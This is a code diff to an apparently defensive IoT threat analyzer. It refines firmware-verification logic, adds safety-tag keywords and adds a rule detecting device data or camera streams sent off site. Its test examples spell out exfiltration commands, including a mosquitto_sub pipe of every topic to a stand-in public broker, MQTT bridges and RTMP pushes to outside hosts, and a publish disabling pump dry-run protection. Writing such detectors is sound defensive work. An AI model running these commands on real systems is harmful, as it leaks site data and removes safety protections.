@@ -4,7 +4,7 @@ import { mentions, sanctioned } from '../frames/profiles.js';
 import { instructionMask } from '../frames/instructions.js';
 import { safeguarded } from '../frames/safeguards.js';
 import { BOUND_PATTERNS, statedBoundBroken } from '../frames/bounds.js';
-import { IOT_CONTEXT_PATTERNS, IOT_READING_PATTERNS, READING_KEPT, readingPublished, deviceSecretsOut, vehicleAccess, occupancyOf, pastStatedLimit, safetyTagOff, switchPhrases } from '../parse/iot-context.js';
+import { IOT_CONTEXT_PATTERNS, IOT_READING_PATTERNS, IOT_RELAY_PATTERNS, READING_KEPT, brokerRelayedOut, readingPublished, streamPushedOut, deviceSecretsOut, vehicleAccess, occupancyOf, pastStatedLimit, safetyTagOff, switchPhrases } from '../parse/iot-context.js';
 import { findNear, metaText, PARSE_LIMIT, PREP_PATTERNS, type PrepContext } from '../parse/infra-prep.js';
 import { PREP_FAST_PATTERNS, prepKeys, prepTextFast } from '../parse/ui-action-host.js';
 import type { Analyzer, Metadata, Primitive, ThreatRule } from '../types.js';
@@ -162,8 +162,16 @@ const O08_RX1 = /\b(?:firmware|rom|bootloader|ecu|image|ota)\b|\.(?:bin|hex|img|
 const O08_RX2 = /^\s{0,3}(?:check|list|show|get|read|what)\b|\bcheck for (?:firmware )?updates?\b/i;
 const O08_RX3 = /https?:\/\/(?:\d{1,3}\.){3}\d{1,3}|\bhttp:\/\/|\b(?:unknown|unofficial|untrusted|unverified|third[- ]party|custom|modded|patched|cracked|community|random|forum|telegram|mega\.nz|pastebin|discord)\b|--no-verify|--force|skip(?:ping)? (?:signature|verification|checksum)|unsigned|disable (?:secure boot|signature)|downgrade|\brollback\b|\broll back\b/i;
 const ROLLBACK = /^(?:downgrade|rollback|roll back)$/i;
-/** The request checks the image: its signature verified, or its digest pinned ("sha256": …). */
-const SIGNATURE_KEPT = /"(?:verify_sig(?:nature)?|verify_signature|signature_check|check_signature|require_signed|signed_only)"\s?:\s?true\b|"(?:sha256|sha512|digest|checksum)"\s?:\s?"[0-9a-f]{6}/;
+/** The request checks the image: its signature verified. */
+const SIGNATURE_KEPT = /"(?:verify_sig(?:nature)?|verify_signature|signature_check|check_signature|require_signed|signed_only)"\s?:\s?true\b/;
+/**
+ * Its digest pinned ("sha256": …) for an image fetched over https: the digest says the bytes are the ones published
+ * there. A digest of a file handed over with no source ("brake_ecu_tuned.bin", "sha256": …) pins whatever file that
+ * is, and vouches for no one's build.
+ */
+const DIGEST_PINNED = /"(?:sha256|sha512|digest|checksum)"\s?:\s?"[0-9a-f]{6}/;
+const HTTPS_SOURCE = /"(?:url|uri|source|src|image_url|firmware_url|download_url|href)"\s?:\s?"https:\/\//;
+const imageChecked = (head: string): boolean => SIGNATURE_KEPT.test(head) || (DIGEST_PINNED.test(head) && HTTPS_SOURCE.test(head));
 /** The method and target URL a request line opens with ("POST https://10.1.5.44/api/v1/firmware/update"). */
 const REQUEST_TARGET = /^\s{0,3}(?:post|put|patch|get)\s{1,3}https?:\/\/[^\s/]{1,100}/i;
 /** The same wherever it stands (the value's folded copies repeat it), its method kept. */
@@ -682,7 +690,7 @@ const rules: ThreatRule<IotContext>[] = [
     score: 8,
     keywords: ['firmware', 'flash', 'ota', '.bin', '.hex', 'rom', 'bootloader', 'secure boot', 'dfu'],
     // a write request to the firmware endpoint ("POST …/firmware {url}") is the flash
-    pattern: /\b(?:flash(?:ing)?|install|upload|push|update|upgrade|downgrade|rollback|roll back|write|load|ota|post|put)\b/i,
+    pattern: /\b(?:flash(?:ing)?|install|upload|push|update|upgrade|downgrade|rollback|roll back|write|load|ota|post|put)\b|\bota_(?:update|url|upgrade|apply)\b|\bfirmware_url\b/i,
     detect: (ctx) => {
       if (!O08_RX1.test(ctx.head)) return null;
       if (O08_RX2.test(ctx.head)) return null;
@@ -698,7 +706,7 @@ const rules: ThreatRule<IotContext>[] = [
       if (why && ROLLBACK.test(why[0]) && !O08_UNTRUSTED.test(ctx.head)) return { detail: `firmware ${why[0].toLowerCase()} to an older version (its fixed vulnerabilities return)`, score: vehicle ? 6 : 4 };
       if (!why) {
         // a signed image, or a bench or test controller: the routine way firmware reaches a controller
-        if (!vehicle || SIGNATURE_KEPT.test(ctx.head) || safeguarded(ctx.head, ctx.metadata, ['signed', 'nonprod', 'dryrun'])) return null;
+        if (!vehicle || imageChecked(ctx.head) || safeguarded(ctx.head, ctx.metadata, ['signed', 'nonprod', 'dryrun'])) return null;
         return { detail: 'firmware write to a safety-critical controller', score: 5 };
       }
       return { detail: `firmware from ${why[0].toLowerCase()}${vehicle ? ' onto a safety-critical controller' : ''}`, score: vehicle ? 9 : 8 };
@@ -818,7 +826,7 @@ const rules: ThreatRule<IotContext>[] = [
     primitive: 'DESTRUCTION',
     score: 9,
     // identifiers only ("SafetyInterlock", "ESTOP_BYPASS"): plain words like "safety" or "trip" would admit prose
-    keywords: ['interlock', 'curtain', 'estop', 'e_stop', 'emergencystop', 'emergency_stop', 'safety_', 'safety.', 'safetyrelay', 'guarddoor', 'guard_door', '_trip', 'trip_', 'cutoff', 'cut_off', 'overtemp', 'overpressure', 'reliefvalve', 'relief_valve', 'limitswitch', 'limit_switch', 'sprinkler_', 'firealarm', 'fire_alarm'],
+    keywords: ['interlock', 'curtain', 'estop', 'e_stop', 'emergencystop', 'emergency_stop', 'safety_', 'safety.', 'safetyrelay', 'guarddoor', 'guard_door', '_trip', 'trip_', 'cutoff', 'cut_off', 'overtemp', 'overpressure', 'reliefvalve', 'relief_valve', 'limitswitch', 'limit_switch', 'sprinkler_', 'firealarm', 'fire_alarm', '_protection', 'dry_run', 'dryrun', 'anti_islanding', 'overload_'],
     detect: (ctx) => {
       if (QUESTION.test(ctx.head)) return null;
       const tag = safetyTagOff(ctx.text);
@@ -826,8 +834,32 @@ const rules: ThreatRule<IotContext>[] = [
     },
     reason: (d) => `Takes a safety function out of the process: ${d}`,
     examples: {
-      flag: ['Set PLC tag Press_03.SafetyInterlock_Override = TRUE and LightCurtain_Enable = FALSE; resume cycle', 'write Line2.ESTOP_BYPASS := 1', '{"light_curtain_enabled": false}'],
-      pass: ['Set PLC tag Press_03.SafetyInterlock_Override = FALSE and LightCurtain_Enable = TRUE', 'read Line2.ESTOP_BYPASS', 'set Safety_Report_Interval = 60'],
+      flag: ['Set PLC tag Press_03.SafetyInterlock_Override = TRUE and LightCurtain_Enable = FALSE; resume cycle', 'write Line2.ESTOP_BYPASS := 1', '{"light_curtain_enabled": false}', 'PUBLISH mill/pump/2/cmd {"dry_run_protection": false, "rpm": 3000}'],
+      pass: ['Set PLC tag Press_03.SafetyInterlock_Override = FALSE and LightCurtain_Enable = TRUE', 'read Line2.ESTOP_BYPASS', 'set Safety_Report_Interval = 60', 'PUBLISH mill/pump/2/cmd {"dry_run_protection": true, "rpm": 1500}'],
+    },
+  },
+  {
+    id: 'O22',
+    name: 'Every device message or a camera stream sent on to an outside broker or streaming host',
+    // what it does: whatever the devices report (positions, card reads, readings) or film leaves the site for a host
+    // nobody on it controls
+    primitive: 'EXFILTRATION',
+    score: 8,
+    keywords: ['topic', 'topics', 'mosquitto_sub', 'rtmp', 'srt://'],
+    // the value as written (the folded copies join a host's labels): read once, over the whole value
+    scope: 'whole',
+    detect: (ctx) => {
+      const broker = brokerRelayedOut(ctx.raw);
+      if (broker !== '') return `every topic bridged or relayed to ${broker}`;
+      const stream = streamPushedOut(ctx.raw);
+      return stream === '' ? null : { detail: `video stream pushed to ${stream}`, score: 7 };
+    },
+    reason: (d) => `Sends what the devices see or report off site: ${d}`,
+    examples: {
+      flag: ['connection offsite\naddress broker.example-public.net:1883\ntopic # out 0', "mosquitto_sub -h broker.plant.local -t '#' -v | mosquitto_pub -h public.mqtt-host.example -t dump -l",
+        '{"action": "bridge_add", "remote": "mqtts://relay.free-mqtt.example:8883", "topics": ["#"], "direction": "out"}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": true}}'],
+      pass: ['connection hq\naddress mqtt.hq.corp:1883\ntopic site7/# out 1', 'connection offsite\naddress broker.example-public.net:1883\ntopic site7/status out 0', "mosquitto_sub -h broker.plant.local -t '#' -C 5 -v",
+        '{"stream": {"push": "rtmp://nvr.site.local/live/77", "enabled": true}}', '{"stream": {"push": "rtmp://live.relay-cdn.example/app/77", "enabled": false}}'],
     },
   },
   {
@@ -1032,6 +1064,6 @@ const iotAnalyzer: Analyzer<IotContext> = {
   keywordsAtWordStart: true,
   rules: quietWhenDescribed<IotContext, ThreatRule<IotContext>>(rules),
   effect: iotEffect,
-  auxPatterns: [WITHIN_RANGE, LIMITS_KEPT, ...BOUND_PATTERNS, STANDING_IDENTITY, STANDING_AUTOMATION, AUTOMATION_OFF, VOICE_CAPTURE, WATCHING_DEVICE, FEW_HOURS, DEVICE_DOSE, PATIENT_CONFIRMS, DOSE_OVERRIDE, ROLLBACK_READY, ROLLBACK_READY_ALL, REQUEST_TARGET, REQUEST_TARGETS, SIGNATURE_KEPT, HOME_ENTRY, COLD_SETPOINT, PEOPLE_HOME, LIFE_SAFETY, PERMANENT, ...IOT_CONTEXT_PATTERNS, ...IOT_READING_PATTERNS, TEST_MESSAGE, TEST_DENIED, LOGIN_ADDED, STARTUP_HOOK, TUNNEL_OUT, WEAK_SECRET, EXPOSE_ACCESS, PUBLIC_IPV4, WILDCARD_TOPIC, OUT_OF_SERVICE, SAFETY_OBJECT, OFF_STATE, TEMPERATURE_FOREIGN, ALARM_WORD, OUTSIDE_WORD, O09_INSIDE, O09_CRITICAL, O09_LONG, FOREIGN_MONITOR, FOREIGN_OFF, ACCESS_FIRST, THEN_OPEN, UNDERSCORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, O02_WRITE, O02_ANY, PROCESS_CONTEXT, PROCESS_OBJECT, PROCESS_VERB, POLL_WRITE, CRITICAL_PROCESS, VEHICLE_TRACKING, VEHICLE_WORD, STRUCTURED, STRUCT_SEP, SPACES, COMMAND_MARK, CMD_OBJ_VERB, CMD_VERB_OBJ, DISARM, FOREIGN_OBJECT, FOREIGN_VERB, FOREIGN_ALARM, NOT_THE_DOOR, VEHICLE_DIRECT, VEHICLE_SAFETY, VEHICLE_OFF_VERB, EXPOSE_VERB, ALARM_CLOCK, SETPOINT_WRITE, BLIND_DIRECT, MONITOR_OBJECT, BLIND_VERB, O09_ALL, AWAY_WORDS, NIGHT_WORDS, CLOCK, QUESTION, TEMPERATURE],
+  auxPatterns: [WITHIN_RANGE, LIMITS_KEPT, ...BOUND_PATTERNS, STANDING_IDENTITY, STANDING_AUTOMATION, AUTOMATION_OFF, VOICE_CAPTURE, WATCHING_DEVICE, FEW_HOURS, DEVICE_DOSE, PATIENT_CONFIRMS, DOSE_OVERRIDE, ROLLBACK_READY, ROLLBACK_READY_ALL, REQUEST_TARGET, REQUEST_TARGETS, SIGNATURE_KEPT, DIGEST_PINNED, HTTPS_SOURCE, HOME_ENTRY, COLD_SETPOINT, PEOPLE_HOME, LIFE_SAFETY, PERMANENT, ...IOT_CONTEXT_PATTERNS, ...IOT_READING_PATTERNS, TEST_MESSAGE, TEST_DENIED, LOGIN_ADDED, STARTUP_HOOK, TUNNEL_OUT, WEAK_SECRET, EXPOSE_ACCESS, PUBLIC_IPV4, WILDCARD_TOPIC, OUT_OF_SERVICE, SAFETY_OBJECT, OFF_STATE, TEMPERATURE_FOREIGN, ALARM_WORD, OUTSIDE_WORD, O09_INSIDE, O09_CRITICAL, O09_LONG, FOREIGN_MONITOR, FOREIGN_OFF, ACCESS_FIRST, THEN_OPEN, UNDERSCORE, ...PREP_PATTERNS, ...PREP_FAST_PATTERNS, ...DETECT_PATTERNS, O02_WRITE, O02_ANY, PROCESS_CONTEXT, PROCESS_OBJECT, PROCESS_VERB, POLL_WRITE, CRITICAL_PROCESS, VEHICLE_TRACKING, VEHICLE_WORD, STRUCTURED, STRUCT_SEP, SPACES, COMMAND_MARK, CMD_OBJ_VERB, CMD_VERB_OBJ, DISARM, FOREIGN_OBJECT, FOREIGN_VERB, FOREIGN_ALARM, NOT_THE_DOOR, VEHICLE_DIRECT, VEHICLE_SAFETY, VEHICLE_OFF_VERB, EXPOSE_VERB, ALARM_CLOCK, SETPOINT_WRITE, BLIND_DIRECT, MONITOR_OBJECT, BLIND_VERB, O09_ALL, AWAY_WORDS, NIGHT_WORDS, CLOCK, QUESTION, TEMPERATURE],
 };
 export default iotAnalyzer;
